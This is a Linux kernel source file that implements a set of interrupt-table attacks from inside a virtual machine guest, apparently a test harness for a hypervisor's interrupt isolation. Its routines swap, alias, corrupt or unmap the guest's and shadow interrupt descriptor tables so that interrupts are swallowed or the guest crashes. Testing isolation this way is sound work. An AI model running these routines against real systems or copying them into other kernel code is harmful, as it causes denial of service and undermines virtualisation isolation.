// SPDX-License-Identifier: GPL-2.0
/* Attacks by interrupt tables: the attacker's own in the place of the guest's, or of the shadow (src/Eli). */
#include <linux/gfp.h>
#include <linux/irq.h>
#include <linux/irqflags.h>
#include <linux/mm.h>
#include <linux/smp.h>
#include <linux/string.h>
#include <linux/vmalloc.h>
#include <asm/apicdef.h>
#include <asm/hw_irq.h>
#include <asm/irq_vectors.h>
#include <asm/pgtable.h>
#include "attack.h"

#define SHADOWS		0xa0000ul	/* guest-physical; a page for each vCPU (docs/vmm-machine.md) */

void attack_return(void);
void attack_eat(void);
void attack_ints(void);

/* Handlers: one that does nothing, not even EOI, and one that completes what it takes. Then INT n; RET for each n from 32, four bytes each. */
asm(".pushsection .text\n"
    ".balign 16\n"
    "attack_return:\n"
    "	endbr64\n"
    "	lock incq attack_eaten(%rip)\n"
    "	iretq\n"
    ".balign 16\n"
    "attack_eat:\n"
    "	endbr64\n"
    "	lock incq attack_eaten(%rip)\n"
    "	pushq %rax\n"
    "	pushq %rcx\n"
    "	pushq %rdx\n"
    "	movl $0x80b, %ecx\n"
    "	xorl %eax, %eax\n"
    "	xorl %edx, %edx\n"
    "	wrmsr\n"
    "	popq %rdx\n"
    "	popq %rcx\n"
    "	popq %rax\n"
    "	iretq\n"
    ".balign 16\n"
    "attack_ints:\n"
    "	endbr64\n"
    ".set n, 32\n"
    ".rept 224\n"
    "	.byte 0xcd, n\n"
    ".set n, n + 1\n"
    ".endr\n"
    "	ret\n"
    "	int3\n"
    ".popsection\n");

static void aim(gate_desc *table, int first, int last, void (*handler)(void))
{
	unsigned long at = (unsigned long)handler;
	int vector;

	for (vector = first; vector <= last; vector++)
		table[vector] = (gate_desc){
			.offset_low = (u16)at, .offset_middle = (u16)(at >> 16), .offset_high = (u32)(at >> 32),
			.segment = __KERNEL_CS, .bits = { .type = GATE_INTERRUPT, .p = 1 },
		};
}

/*
 * Whatever was eaten is raised again, for the guest's sake: its timer, and each MSI that interrupts this CPU. Not wires: one too many of
 * the ACPI event device's is a press of the power button.
 */
static void raise_all(void)
{
	unsigned int irq;

	wrmsrl(X2APIC_ICR, APIC_DEST_SELF | APIC_DM_FIXED | LOCAL_TIMER_VECTOR);
	for (irq = 16; irq < nr_irqs; irq++) {
		struct irq_data *data = irq_get_irq_data(irq);
		struct irq_cfg *config = data ? irqd_cfg(data) : NULL;

		if (config && config->vector >= FIRST_EXTERNAL_VECTOR && strstr(irq_data_get_irq_chip(data)->name ?: "", "MSI") &&
		    cpumask_test_cpu(smp_processor_id(), irq_data_get_effective_affinity_mask(data)))
			wrmsrl(X2APIC_ICR, APIC_DEST_SELF | APIC_DM_FIXED | config->vector);
	}
}

static int with_copy(int last, void (*handler)(void), void (*act)(void))
{
	struct desc_ptr own = get_idt();
	gate_desc *copy = (void *)get_zeroed_page(GFP_KERNEL);

	if (!copy)
		return -ENOMEM;
	memcpy(copy, (void *)own.address, own.size + 1);
	aim(copy, FIRST_EXTERNAL_VECTOR, last, handler);
	local_irq_disable();
	set_idt((unsigned long)copy, own.size);
	local_irq_enable();
	act();
	local_irq_disable();
	set_idt(own.address, own.size);
	/* For what was never completed. */
	wrmsrl(X2APIC_EOI, 0);
	raise_all();
	local_irq_enable();
	free_page((unsigned long)copy);
	return 0;
}

static void idle(void)
{
	for (; on(); attack_rounds++)
		spin_us(1000);
}

static void ints(void)
{
	for (; on(); attack_rounds++) {
		local_irq_disable();
		((void (*)(void))attack_ints)();
		local_irq_enable();
	}
}

int attack_noeoi(void)
{
	return with_copy(LOCAL_TIMER_VECTOR - 1, attack_return, idle);
}

int attack_lidt_copy(void)
{
	return with_copy(255, attack_eat, idle);
}

int attack_intn(void)
{
	return with_copy(255, attack_return, ints);
}

int attack_lidt_garbage(void)
{
	struct desc_ptr own = get_idt();

	local_irq_disable();
	for (; on(); attack_rounds++) {
		/* Canonical, and mapped by nobody: Documentation/arch/x86/x86_64/mm.rst, "unused hole". */
		set_idt(0xfffffbf000000000ul + PAGE_SIZE * (attack_rounds & 255), own.size);
		spin_us(50000);
	}
	set_idt(own.address, own.size);
	local_irq_enable();
	return 0;
}

/* The first interrupt that comes is the guest's end. */
int attack_lidt_garbage_open(void)
{
	set_idt(0xfffffbf000000000ul, PAGE_SIZE - 1);
	return attack_spin();
}

int attack_idt_alias(void)
{
	struct desc_ptr own = get_idt();
	unsigned int level;
	pte_t *pte = lookup_address(own.address, &level);
	gate_desc *saved = (void *)get_zeroed_page(GFP_KERNEL), *alias = NULL;
	struct page *page;

	if (saved && pte && level == PG_LEVEL_4K) {
		page = pfn_to_page(pte_pfn(*pte));
		alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	}
	if (!alias) {
		free_page((unsigned long)saved);
		return -ENOMEM;
	}
	local_irq_disable();
	memcpy(saved, alias, PAGE_SIZE);
	for (; on(); attack_rounds++) {
		aim(alias, FIRST_EXTERNAL_VECTOR, 255, attack_eat);
		local_irq_enable();
		spin_us(100000);
		local_irq_disable();
		memcpy(alias, saved, PAGE_SIZE);
		raise_all();
		local_irq_enable();
		spin_us(5000);
		local_irq_disable();
	}
	local_irq_enable();
	vunmap(alias);
	free_page((unsigned long)saved);
	return 0;
}

static pte_t *shadow_entry(unsigned long *address)
{
	unsigned int level;
	pte_t *pte;

	*address = (unsigned long)__va(SHADOWS + smp_processor_id() * PAGE_SIZE);
	pte = lookup_address(*address, &level);
	return level == PG_LEVEL_4K ? pte : NULL;
}

static void map_shadow(pte_t *pte, unsigned long address, pte_t value)
{
	WRITE_ONCE(*pte, value);
	asm volatile("invlpg (%0)" : : "r"(address) : "memory");
}

/* Without its shadow, the processor finds no gate for the next interrupt, nor for the fault that follows. */
int attack_shadow_unmap(void)
{
	unsigned long address;
	pte_t *pte = shadow_entry(&address), good;

	if (!pte)
		return -ENXIO;
	good = *pte;
	map_shadow(pte, address, __pte(0));
	attack_spin();
	map_shadow(pte, address, good);
	return 0;
}

/* Instead of its shadow, the processor finds gates that swallow whatever comes. With a period, it is put back and the VM exits before each new one. */
static int swallow(u64 period_us)
{
	gate_desc *own = (void *)get_zeroed_page(GFP_KERNEL);
	unsigned long address;
	pte_t *pte = shadow_entry(&address), good, bad;

	if (!own || !pte) {
		free_page((unsigned long)own);
		return -ENXIO;
	}
	memcpy(own, (void *)get_idt().address, PAGE_SIZE);
	aim(own, FIRST_EXTERNAL_VECTOR, 255, attack_eat);
	good = *pte;
	bad = pfn_pte(__pa(own) >> PAGE_SHIFT, PAGE_KERNEL);
	while (on()) {
		map_shadow(pte, address, bad);
		if (period_us)
			spin_us(period_us);
		else
			attack_spin();
		map_shadow(pte, address, good);
		attack_rounds++;
		leave();
	}
	local_irq_disable();
	raise_all();
	local_irq_enable();
	free_page((unsigned long)own);
	return 0;
}

int attack_shadow_remap(void)
{
	return swallow(0);
}

int attack_shadow_flip(void)
{
	return swallow(60000);
}
